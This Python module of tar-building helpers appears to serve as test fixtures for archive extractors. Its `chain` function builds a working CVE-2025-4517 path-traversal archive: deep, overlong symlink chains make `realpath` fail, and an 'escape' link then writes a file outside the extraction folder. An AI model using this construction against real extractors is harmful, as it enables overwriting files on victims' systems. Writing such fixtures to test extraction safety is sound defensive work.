"""Tars written byte by byte, so that they hold what no library would write."""

from __future__ import annotations

import io
import tarfile


def block(name: bytes, kind: bytes = b"0", size: int = 0, *, mode: int = 0o644, link: bytes = b"") -> bytes:
    """One header of ustar."""
    fields = [
        name.ljust(100, b"\0"),
        b"%07o\0" % mode,
        b"%07o\0%07o\0" % (0, 0),
        b"%011o\0%011o\0" % (size, 0),
        b" " * 8,
        kind,
        link.ljust(100, b"\0"),
        b"ustar\x0000",
    ]
    head = b"".join(fields).ljust(512, b"\0")
    return head[:148] + b"%06o\0 " % sum(head) + head[156:]


def padded(data: bytes) -> bytes:
    """Data filled up to whole blocks."""
    return data + bytes(-len(data) % 512)


def file(name: bytes, data: bytes = b"x", *, mode: int = 0o644) -> bytes:
    return block(name, b"0", len(data), mode=mode) + padded(data)


def folder(name: bytes) -> bytes:
    return block(name, b"5", mode=0o755)


def link(name: bytes, target: bytes) -> bytes:
    return block(name, b"2", link=target, mode=0o777)


def record(key: bytes, value: bytes) -> bytes:
    """One pax record, which counts its own length."""
    size = len(key) + len(value) + 3
    while len(b"%d" % size) + len(key) + len(value) + 3 != size:
        size = len(b"%d" % size) + len(key) + len(value) + 3
    return b"%d %s=%s\n" % (size, key, value)


def pax(data: bytes, kind: bytes = b"x") -> bytes:
    """A header of pax records."""
    return block(b"././@PaxHeader", kind, len(data)) + padded(data)


def long(name: bytes, member: bytes) -> bytes:
    """A member by a path that is in a pax record."""
    return pax(record(b"path", name)) + member


def whole(*members: bytes) -> bytes:
    """A tar of these."""
    return b"".join(members) + bytes(1024)


def chain(out: str, name: str = "written", *, depth: int = 16, length: int = 247) -> bytes:
    """CVE-2025-4517: links so long, one after the other, that ``realpath`` gives up and believes what is left.

    ``out`` leads from the folder above the tar's own to where ``name`` is to be written.
    """
    buffer, below, steps = io.BytesIO(), "d" * length, "abcdefghijklmnop"[:depth]
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:

        def add(name: str, kind: bytes, target: str = "", data: bytes = b"") -> None:
            info = tarfile.TarInfo(name)
            info.type, info.linkname, info.size, info.mode = kind, target, len(data), 0o755
            archive.addfile(info, io.BytesIO(data))

        path = ""
        for step in steps:
            add(f"{path}{below}", tarfile.DIRTYPE)
            add(f"{path}{step}", tarfile.SYMTYPE, below)
            path = f"{path}{below}/"
        far = "/".join([*steps, "l" * 254])
        add(far, tarfile.SYMTYPE, "../" * depth)
        add("escape", tarfile.SYMTYPE, f"{far}/../{out}")
        add(f"escape/{name}", tarfile.REGTYPE, data=b"from outside\n")
    return buffer.getvalue()
